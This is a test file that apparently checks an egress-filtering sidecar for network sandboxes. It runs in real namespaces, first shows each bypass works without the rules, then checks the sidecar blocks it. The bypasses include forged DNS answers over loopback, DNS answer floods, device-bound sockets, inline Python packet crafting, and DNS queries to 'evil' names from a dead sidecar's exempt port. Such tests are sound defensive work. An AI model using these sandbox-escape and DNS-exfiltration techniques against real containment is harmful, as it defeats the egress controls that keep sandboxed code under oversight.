/**
 * What got through in an audit of the sidecar, and what it found untested, in real namespaces. Every attack is first seen to work where nothing
 * holds it, and what counts is what the internet saw.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import t from 'tap'
import { needs } from '../support/abilities.ts'
import { eventually } from '../support/program.ts'
import { api, createNamespaces, outside, ownCgroup, policy, type Namespaces, type RunningSidecar } from './egress-namespaces.ts'

await needs('root', 'nft', 'netns', 'curl', 'python3', 'sysctl', 'ipv6')
t.setTimeout(180_000)

const attacks = ['-c', readFileSync(join(import.meta.dirname, 'egress-attacks.py'), 'utf8')]
/** With what root in a sandbox is left with. */
const asSandbox = ['--bounding-set=-all,+net_bind_service', '--inh-caps=-all', '--', 'python3', ...attacks]
const attack = (space: Namespaces, ...words: string[]): Promise<string> => space.run('setpriv', ...asSandbox, ...words)
const upstream = (space: Namespaces, address: string, port: number): Promise<readonly string[]> => space.runOn('internet', 'python3', ...attacks, 'resolver', address, String(port), outside.other)
const results = async (space: Namespaces, ...orders: Parameters<Namespaces['ask']>): Promise<string[]> => (await space.ask(...orders)).map(({ result }) => result)
const readyz = (space: Namespaces): Promise<string> => space.run('curl', '-s', '-m', '5', 'http://127.0.0.1:18080/readyz')
const refused = 'ECONNREFUSED'
/** Connections, bytes and datagrams that reached the internet; a moment later, because it tells in its own time. */
async function arrived(space: Namespaces): Promise<number> {
  await delay(50)
  return space.seen.filter(({ saw }) => ['tcp', 'bytes', 'udp'].includes(saw)).length
}

/** The protocol by its number. */
type Packet = { from: number; to: string; port: number; protocol: number }

/** Listens at the internet's end of the cable; gives what arrived there until a moment after the call. */
async function watchWire(space: Namespaces): Promise<() => Promise<Packet[]>> {
  const lines = await space.runOn('internet', 'python3', ...attacks, 'wire', 'up0')
  return () => delay(100).then(() => lines.slice(1).map((line) => JSON.parse(line) as Packet))
}

/** A connection that was used; gives the number of its stream. */
async function usedStream(space: Namespaces, address: string): Promise<number> {
  const [{ stream = -1 } = {}] = await space.ask({ stream: address })
  const [said] = await results(space, { write: stream })
  if (said !== 'echo') throw new Error(`the connection to ${address} does not work: ${said}`)
  return stream
}

for (const exemption of ['ports', 'cgroup'] as const) {
  t.test(`answers forged over the loopback in the name of an IPv6 upstream, exempt by ${exemption}`, async (t) => {
    await using cgroup = exemption === 'cgroup' ? await ownCgroup() : null
    await using space = await createNamespaces()
    await upstream(space, outside.v6, 53)
    // Few letters, so that their case is soon guessed.
    await space.startSidecar({ OPENSANDBOX_EGRESS_DNS_UPSTREAM: outside.v6, OPENSANDBOX_EGRESS_EXEMPTION: exemption, OPENSANDBOX_EGRESS_RULES: policy('a.ok', 's.ok') }, cgroup?.path)
    const ordinary = async (): Promise<unknown[]> => (await space.ask({ ask: 'a.ok' }, { ask: 'a.ok', tcp: true }, { ask: 'a.ok', server: outside.v6 })).map(({ answers }) => answers)
    t.same(await ordinary(), [1, 1, 1], 'an ordinary question over the IPv6 upstream')
    t.same(await results(space, { connect: outside.other }), ['open'])
    const forge = (address: string, seconds: number): Promise<string> => attack(space, 'forge', outside.v6, '2001:db8:53::2', 's.ok', address, String(seconds))

    const [guarded, open] = ['198.18.200.1', '198.18.200.2']
    const before = await arrived(space)
    t.comment(`with the rule: ${await forge(guarded, 2)}`)
    t.same(await results(space, { connect: guarded }), [refused], 'the forged address is shut')
    t.equal(await arrived(space), before)
    t.same(await eventually('the questions in between are over', async () => ((await ordinary())[0] === 1 ? ordinary() : undefined)), [1, 1, 1])

    const rule = /fib saddr type != local .*# handle (\d+)/.exec(await space.run('nft', '-a', 'list', 'chain', 'inet', 'opensandbox', 'egress'))?.[1] ?? ''
    t.not(rule, '', 'there is a rule')
    if (rule !== '') await space.run('nft', 'delete', 'rule', 'inet', 'opensandbox', 'egress', 'handle', rule)
    await space.run('nft', 'flush', 'chain', 'inet', 'opensandbox', 'sockets')
    t.comment(`without it, and the one that lets nobody inside speak to our sockets: ${await forge(open, 25)}`)
    t.same(await results(space, { connect: open }), ['open'], 'without the rules the forging works')
    t.equal(await arrived(space), before + 1)
  })
}

t.test('upstreams of both families, exempt by ports: what holds a port for IPv4 does not open the IPv6 resolver', async (t) => {
  await using space = await createNamespaces()
  await space.startSidecar({ OPENSANDBOX_EGRESS_DNS_UPSTREAM: `${outside.v4},${outside.v6}`, OPENSANDBOX_EGRESS_EXEMPTION: 'ports', OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
  const heard = await upstream(space, outside.v6, 53)
  const past = (name: string, ports: string): string => `
import socket,struct
ports={int(line.split()[1].split(":")[1],16) for file in ("udp","udp6") for line in open("/proc/net/"+file).read().splitlines()[1:]}
for port in ${ports}:
  try:
    s=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IPV6,socket.IPV6_V6ONLY,1); s.bind(("2001:db8:53::2",port))
    s.sendto(struct.pack("!6H",7,256,1,0,0,0)+b"".join(bytes([len(p)])+p for p in b"${name}".split(b"."))+bytes(1)+b"\\0\\1\\0\\1",("${outside.v6}",53)); print("sent from",port)
  except OSError as error: print(port,error)`
  const said = await space.run('python3', '-c', past('past.evil', 'sorted(ports)'))
  t.match(said, /sent from/, 'there are ports that anybody may have for IPv6')
  t.equal((await space.ask({ ask: 'own.ok.example' }))[0]?.rcode, 0)
  await delay(200)
  t.notOk(heard.includes('past'))
  await space.run('nft', 'insert rule inet opensandbox nat ip6 daddr', outside.v6, 'accept; insert rule inet opensandbox egress ip6 daddr', outside.v6, 'accept')
  // From a new port: the kernel remembers where it sent those before.
  await space.run('python3', '-c', past('control.evil', '[0]'))
  await eventually('without the rules it is asked', async () => heard.includes('control') || undefined)
})

t.test('a flood of answers with thousands of addresses, then a tighter policy', async (t) => {
  await using space = await createNamespaces()
  await upstream(space, outside.v4, 5300)
  const named = '203.0.113.88'
  const sidecar = await space.startSidecar({ OPENSANDBOX_EGRESS_DNS_UPSTREAM: `${outside.v4}:5300`, OPENSANDBOX_EGRESS_RULES: policy('*.owned.example', named) })
  t.same(await results(space, { connect: named }), ['open'])
  const flood = (): Promise<string> => attack(space, 'flood', outside.v4, 'owned.example', '22', '2')
  const learned = async (): Promise<number> => Number(/^egress_learned_addresses (\d+)$/m.exec(await space.run('curl', '-s', '-m', '5', 'http://127.0.0.1:18080/metrics'))?.[1])
  t.comment(`answered with addresses: ${await flood()}`)
  t.ok((await learned()) >= 16_000, `the flood was real: ${await learned()} addresses`)
  const firstOfEach = Array.from({ length: 22 }, (_, i) => ({ connect: `198.${18 + ((i * 4000) >> 16)}.${((i * 4000) >> 8) & 255}.${(i * 4000) & 255}` }))
  t.ok((await results(space, ...firstOfEach)).includes('open'), 'and they were opened')

  t.match(await api(space, 'POST', '{}'), /200$/, 'the policy changes')
  const before = await arrived(space)
  t.same(await results(space, { connect: named }, ...firstOfEach), Array<string>(23).fill(refused), 'what was allowed is shut: by address, and by name')
  t.equal(await arrived(space), before)
  t.same([await readyz(space), await learned()], ['ready', 0])

  t.match(await api(space, 'POST', policy('*.owned.example', named)), /200$/)
  const flooding = flood()
  await delay(150)
  t.match(await api(space, 'POST', '{}'), /200$/, 'it changes while the flood goes on')
  await flooding
  t.same(await results(space, { connect: named }, ...firstOfEach), Array<string>(23).fill(refused))
  t.same([await readyz(space), await learned()], ['ready', 0])

  t.match(await api(space, 'POST', policy('a.owned.example')), /200$/)
  t.equal((await space.ask({ ask: 'a.owned.example' }))[0]?.answers, 1, 'and it serves on')
  t.same(await results(space, { connect: outside.other }), ['open'])
  t.equal(await sidecar.end('SIGTERM'), 0, 'it lived all the time')
})

t.test('a sidecar that starts again: connections of the one before it', async (t) => {
  const kill = (sidecar: RunningSidecar): Promise<unknown> => sidecar.end('SIGKILL')
  const rows: [why: string, end: (sidecar: RunningSidecar, space: Namespaces) => Promise<unknown>, meanwhile: string][] = [
    ['killed', kill, 'echo'],
    ['stopped', (sidecar) => sidecar.end('SIGTERM'), 'echo'],
    ['killed after a policy that denies everything', (sidecar, space) => api(space, 'POST', '{}').then(() => kill(sidecar)), 'closed'],
  ]
  for (const [why, end, meanwhile] of rows) {
    await using space = await createNamespaces()
    const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
    await space.ask({ ask: 'ip-198-18-7-7.ok.example' })
    const [silent, open] = [await usedStream(space, '198.18.7.7'), await usedStream(space, '198.18.7.7')]
    // A counter that begins anew comes to the same number with the same number of changes.
    await api(space, 'POST', policy('*.ok.example'))
    const later = await usedStream(space, '198.18.7.7')
    await end(first, space)
    t.same(await results(space, { write: open }), [meanwhile], `${why}: the rules stay as they were`)
    await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy() })
    const before = await arrived(space)
    t.same(await results(space, { write: silent }, { connect: '198.18.7.7' }), ['closed', refused], 'under the new policy nothing goes on')
    await api(space, 'POST', '{}')
    t.same(await results(space, { write: later }), ['closed'])
    t.equal(await arrived(space), before, 'not one byte')
  }
})

t.test('a default of deny with the widest allow rules starts', async (t) => {
  for (const place of ['the internet owns the address that the checks try', 'nobody answers there']) {
    await using space = await createNamespaces()
    if (place.startsWith('nobody')) {
      await space.run('ip', 'route', 'add', '192.0.0.8', 'dev', 'eth0')
      await space.run('ip', 'neigh', 'add', '192.0.0.8', 'lladdr', '02:00:00:00:00:08', 'dev', 'eth0', 'nud', 'permanent')
    }
    for (const [target, beyond] of [['0.0.0.0/0', 'open'], ['192.0.0.0/8', refused]] as const) {
      const sidecar = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy(target) })
      t.same(await results(space, { connect: '192.0.2.1' }, { connect: outside.other }, { connect: outside.other, port: 853 }, { connect: outside.v6 }), ['open', beyond, refused, refused], `${target}, ${place}`)
      await sidecar.end('SIGKILL')
    }
  }
})

t.test('an alias is denied after it was followed', async (t) => {
  const deny = (target: string): { action: string; target: string } => ({ action: 'deny', target })
  const rows: [why: string, method: string, body: unknown, cut: boolean][] = [
    ['the name that the alias leads to', 'PATCH', [deny('x.other.example')], true],
    ['everything around it', 'PATCH', [deny('*.other.example')], true],
    ['a whole new policy', 'POST', { egress: [{ action: 'allow', target: '*.ok.example' }, deny('x.other.example')] }, true],
    ['another name', 'PATCH', [deny('y.other.example')], false],
  ]
  await using space = await createNamespaces()
  await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy() })
  for (const [why, method, body, cut] of rows) {
    await api(space, 'POST', policy('*.ok.example'))
    await space.ask({ ask: 'alias-x.ok.example' })
    const stream = await usedStream(space, outside.other)
    t.match(await api(space, method, JSON.stringify(body)), /200$/)
    const before = await arrived(space)
    const [flow, connect, asked] = await space.ask({ write: stream }, { connect: outside.other }, { ask: 'alias-x.ok.example' })
    t.same([flow?.result, connect?.result, asked?.rcode], cut ? ['closed', refused, 3] : ['echo', 'open', 0], why)
    t.equal(await arrived(space) - before, cut ? 0 : 2)
  }
  await t.test('an address that two aliases lead to', async (t) => {
    await api(space, 'POST', policy('*.ok.example'))
    await space.ask({ ask: 'alias-x.ok.example' }, { ask: 'alias-y.ok.example' })
    const stream = await usedStream(space, outside.other)
    for (const [target, result] of [['x.other.example', 'echo'], ['y.other.example', 'closed']] as const) {
      await api(space, 'PATCH', JSON.stringify([deny(target)]))
      t.same(await results(space, { write: stream }), [result], `without ${target}`)
    }
  })
})

t.test('sockets bound to the device: what is for the loopback does not leave by it', async (t) => {
  const [here, here6, away] = ['127.0.0.1', '::1', '8.8.8.8']
  const places: [protocol: string, address: string, port: number][] = [['udp', here, 15353], ['udp', here6, 15353], ['udp', '127.0.0.2', 9], ['udp', away, 53], ['udp', outside.other, 53], ['udp', outside.v6, 53], ['tcp', away, 53], ['tcp', outside.v6, 53], ['tcp', here, 15353], ['tcp', here6, 15353]]
  const tries = [
    ...places.map((place) => ['device', 'eth0', ...place] as const),
    // The kernel itself keeps a TCP connection to the loopback there, unless its socket is bound.
    ...places.slice(0, 8).map((place) => ['interface', 'eth0', ...place] as const),
    ...places.slice(0, 6).map((place) => ['packet-info', 'eth0', ...place] as const),
  ]
  await using space = await createNamespaces()
  const wire = await watchWire(space)
  const escaped = async (): Promise<string[]> => {
    const before = (await wire()).length
    t.comment(await attack(space, 'bound', JSON.stringify(tries)))
    const ports = new Set((await wire()).slice(before).map(({ from }) => from))
    return tries.filter((_, number) => ports.has(40000 + number)).map((words) => words.join(' '))
  }
  t.same(await escaped(), tries.map((words) => words.join(' ')), 'without a sidecar all of them leave')
  await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
  t.same(await escaped(), [], 'with one, none does')
})

t.test('mode dns where the loopback has no IPv6: no question leaves over it', async (t) => {
  await using space = await createNamespaces()
  const wire = await watchWire(space)
  const questions = async (): Promise<Packet[]> => (await wire()).filter(({ to, port }) => to === outside.v6 && port === 53)
  const orders = [{ ask: 'secret.evil.example', server: outside.v6 }, { ask: 'secret.evil.example', server: outside.v6, tcp: true }]
  await space.ask(...orders)
  t.same(new Set((await questions()).map(({ protocol }) => protocol)), new Set([17, 6]), 'without a sidecar they leave, over UDP and TCP')

  await space.run('sysctl', '-qw', 'net.ipv6.conf.lo.disable_ipv6=1')
  await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example'), OPENSANDBOX_EGRESS_MODE: 'dns' })
  const before = (await questions()).length
  // A reset comes back over the loopback, which takes no IPv6 here: over TCP the sandbox waits in vain.
  t.same(await results(space, ...orders), ['EPERM', 'timeout'], 'refused')
  t.equal((await questions()).length, before, 'nothing leaves')
  t.same(await results(space, { connect: outside.v6 }), ['open'], 'other ports are open, as everything is in this mode')
  t.same((await space.ask({ ask: 'a.ok.example' }, { ask: 'secret.evil.example' })).map(({ rcode }) => rcode), [0, 3], 'and IPv4 questions are judged')
})

t.test('a second sidecar in the same namespace', async (t) => {
  await using space = await createNamespaces()
  const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example', outside.other) })
  const stream = await usedStream(space, outside.other)
  await t.rejects(space.startSidecar({ OPENSANDBOX_EGRESS_RULES: '{"defaultAction":"allow"}' }), /exit 1: .*egress\.failed/s)
  t.same(await results(space, { write: stream }, { connect: outside.other }, { connect: '198.18.200.1' }), ['echo', 'open', refused], 'the policy of the first holds')
  t.same((await space.ask({ ask: 'ip-198-18-7-7.ok.example' }, { ask: 'evil.example' })).map(({ rcode }) => rcode), [0, 3], 'it answers')
  t.same(await results(space, { connect: '198.18.7.7' }), ['open'])
  t.equal(await readyz(space), 'ready')
  t.match(await api(space, 'POST', policy('198.18.200.0/24')), /200$/, 'and its policy changes')
  t.same(await results(space, { write: stream }, { connect: outside.other }, { connect: '198.18.7.7' }, { connect: '198.18.200.1' }), ['closed', refused, refused, 'open'])
  t.equal(await first.end('SIGTERM'), 0)
  await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy(outside.other) })
  t.same(await results(space, { connect: outside.other }, { connect: '198.18.200.1' }), ['open', refused], 'the next one starts when the first is gone')
})

t.test('a port of the sidecar is taken by the sandbox: it does not start, and nothing leaves', async (t) => {
  const ports = [['udp', '127.0.0.1', '15353'], ['tcp', '127.0.0.1', '15353'], ['udp', '::1', '15353'], ['tcp', '::1', '15353'], ['tcp', '::', '18080']]
  await Promise.all(ports.map(async (port) => {
    await using space = await createNamespaces()
    const orders = [{ connect: outside.other }, { udp: outside.other }, { connect: outside.v6 }, { ask: 'a.example' }]
    t.same(await results(space, ...orders), ['open', 'echo', 'open', 'answered'])
    await space.runOn('inside', 'setpriv', ...asSandbox, 'hold', ...port)
    await t.rejects(space.startSidecar({ OPENSANDBOX_EGRESS_RULES: '{"defaultAction":"allow"}' }), /exit 1: .*EADDRINUSE/s, port.join(' '))
    const before = [await arrived(space), space.seen.length]
    t.notOk((await results(space, ...orders)).some((result) => ['open', 'echo', 'answered'].includes(result)), port.join(' '))
    t.same([await arrived(space), space.seen.length], before)
  }))
})

t.test('a sidecar was killed, and the sandbox has its port: the next one does not start, and what was denied stays so', async (t) => {
  await using space = await createNamespaces()
  const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
  await first.end('SIGKILL')
  await space.runOn('inside', 'setpriv', ...asSandbox, 'hold', 'udp', '127.0.0.1', '15353')
  const start = await arrived(space)
  await t.rejects(space.startSidecar({ OPENSANDBOX_EGRESS_RULES: '{"defaultAction":"allow"}' }), /exit 1: .*EADDRINUSE/s)
  t.notOk((await results(space, { connect: outside.other }, { udp: outside.other }, { connect: outside.v6 })).some((result) => ['open', 'echo'].includes(result)))
  t.equal(await arrived(space), start)
})

/** A port from which the sidecar's own questions may leave. */
async function exemptPort(space: Namespaces): Promise<string> {
  return /udp sport \{ (\d+)/.exec(await space.run('nft', 'list', 'chain', 'inet', 'opensandbox', 'exempt'))?.[1] ?? ''
}

/** Sends a question to the resolver from that port, as whoever has it may. */
function askFrom(space: Namespaces, port: string, name: string): Promise<unknown> {
  return space.run('python3', '-c', `import socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("0.0.0.0",${port}))
try: s.sendto(b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"+b"".join(bytes([len(p)])+p.encode() for p in "${name}".split("."))+b"\\0\\0\\1\\0\\1",("${outside.v4}",53))
except OSError: pass`)
}

t.test('a sidecar that ends as it is told takes its way out along, and leaves the rest', async (t) => {
  await using space = await createNamespaces()
  const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
  await space.ask({ ask: 'ip-198-18-7-7.ok.example' })
  const port = await exemptPort(space)
  t.match(port, /^\d+$/)
  t.equal(await first.end('SIGTERM'), 0)
  await askFrom(space, port, 'after.evil.example')
  t.same(await results(space, { connect: '198.18.7.7' }, { connect: outside.other }), ['open', refused])
  await arrived(space)
  t.notOk(space.seen.some((line) => line.saw === 'dns' && line.name === 'after.evil.example'), 'whoever binds its port right behind it gets nowhere')
})

t.test('a sidecar that died without a word: its way out closes by itself, and nobody in its place keeps the next one from closing the rest', async (t) => {
  await using space = await createNamespaces()
  const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
  await space.ask({ ask: 'ip-198-18-7-7.ok.example' })
  const port = await exemptPort(space)
  await first.end('SIGKILL')
  const leak = (name: string): Promise<unknown> => askFrom(space, port, name)
  const heard = (name: string): boolean => space.seen.some((line) => line.saw === 'dns' && line.name === name)
  await leak('soon.evil.example')
  await arrived(space)
  t.ok(heard('soon.evil.example'), 'whoever binds a port of the dead one passes for it: the attempt is good')
  const seconds = Number(/expires (\d+)s/.exec(await space.run('nft', 'list', 'set', 'inet', 'opensandbox', 'alive'))?.[1])
  t.ok(seconds > 0 && seconds <= 30, `for ${seconds} s more`)
  // What those seconds do.
  await space.run('nft', 'flush set inet opensandbox alive')
  await leak('later.evil.example')
  await arrived(space)
  t.notOk(heard('later.evil.example'))

  await space.runOn('inside', 'setpriv', ...asSandbox, 'hold', 'udp', '127.0.0.1', '15353')
  t.same(await results(space, { connect: '198.18.7.7' }), ['open'], 'what it had learned is still open')
  await t.rejects(space.startSidecar({ OPENSANDBOX_EGRESS_RULES: '{"defaultAction":"allow"}' }), /exit 1: .*EADDRINUSE/s)
  t.notOk((await results(space, { connect: '198.18.7.7' }, { connect: outside.other }, { udp: outside.other })).some((result) => ['open', 'echo'].includes(result)), 'the next one could not start, and everything is refused')
})

t.test('a UDP flow outlives its lease while it is used', async (t) => {
  await using space = await createNamespaces()
  await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
  const [used, unused] = ['198.18.7.7', '198.18.7.8']
  const leave = (seconds: number, ...addresses: string[]): Promise<string> => space.run('nft', `delete element inet opensandbox dyn_allow_v4 { ${addresses.join(', ')} }; add element inet opensandbox dyn_allow_v4 { ${addresses.map((address) => `${address} timeout ${seconds}s`).join(', ')} }`)
  await space.ask({ ask: 'ip-198-18-7-7.ok.example' }, { ask: 'ip-198-18-7-8.ok.example' })
  t.same(await results(space, { flow: used }, { flow: unused }), ['echo', 'echo'])
  await leave(2, used, unused)
  for (let i = 0; i < 6; i++, await delay(500)) t.same(await results(space, { flow: used }), ['echo'])
  const before = await arrived(space)
  t.same(await results(space, { flow: used }, { flow: unused }), ['echo', 'EPERM'], 'the one that was silent meanwhile is over')
  t.equal(await arrived(space), before + 1)
  await leave(1, used)
  await delay(1500)
  t.same(await results(space, { flow: used }), ['EPERM'], 'as is the other when it falls silent')
  t.equal(await arrived(space), before + 1)
})

t.test('always files: what the operator denies no allow opens, and all of it goes with its file', async (t) => {
  // The sidecar looks at the files every 10 s, and more often here.
  const hurry = 'const { setInterval } = globalThis; globalThis.setInterval = (work, ms, ...rest) => setInterval(work, ms === 10_000 ? 300 : ms, ...rest)'
  const [both, network, denied] = ['198.18.1.1', '198.18.1.2', '198.18.3.3']
  const name = 'ip-198-18-4-4.ok.example'
  await using space = await createNamespaces()
  const sidecar = await space.startSidecarWithVar({ NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(hurry)}`, OPENSANDBOX_EGRESS_RULES: JSON.stringify({ egress: [{ action: 'allow', target: outside.other }, { action: 'deny', target: denied }, { action: 'deny', target: name }] }) })
  const folder = `/proc/${sidecar.pid}/root/var/egress/rules`
  const reloads = (): number => sidecar.log().split('egress.always_reloaded').length
  const reloaded = async (change: () => void): Promise<void> => {
    const before = reloads()
    change()
    await eventually('the files are read again', async () => (reloads() > before ? true : undefined))
  }
  const look = async (...more: { write: number }[]): Promise<unknown[]> => (await space.ask(...more, { connect: outside.other }, { connect: both }, { connect: network }, { connect: denied }, { ask: name })).map(({ rcode, result }) => rcode ?? result)
  t.same(await look(), ['open', refused, refused, refused, 3], "the user's policy")

  await reloaded(() => writeFileSync(`${folder}/allow.always`, `${both}\n198.18.1.0/24\n${denied}\n${name}\n`))
  t.same(await look(), ['open', 'open', 'open', refused, 0], "the operator's allow: before the user's word on a name, but a denied address stays denied, whoever denied it")
  const first = await usedStream(space, both)
  await reloaded(() => writeFileSync(`${folder}/deny.always`, `${outside.other}\n${both}\n`))
  t.same(await look({ write: first }), ['closed', refused, refused, 'open', refused, 0], "the operator's deny: before everybody's allow")

  await reloaded(() => rmSync(`${folder}/deny.always`))
  t.same(await look(), ['open', 'open', 'open', refused, 0], 'without the denials')
  const [second, third] = [await usedStream(space, network), await usedStream(space, '198.18.4.4')]
  await reloaded(() => rmSync(`${folder}/allow.always`))
  const before = await arrived(space)
  t.same(await look({ write: second }, { write: third }), ['closed', 'closed', 'open', refused, refused, refused, 3], "without the rest: the user's policy again, also for what was open")
  t.equal(await arrived(space), before + 1)
})
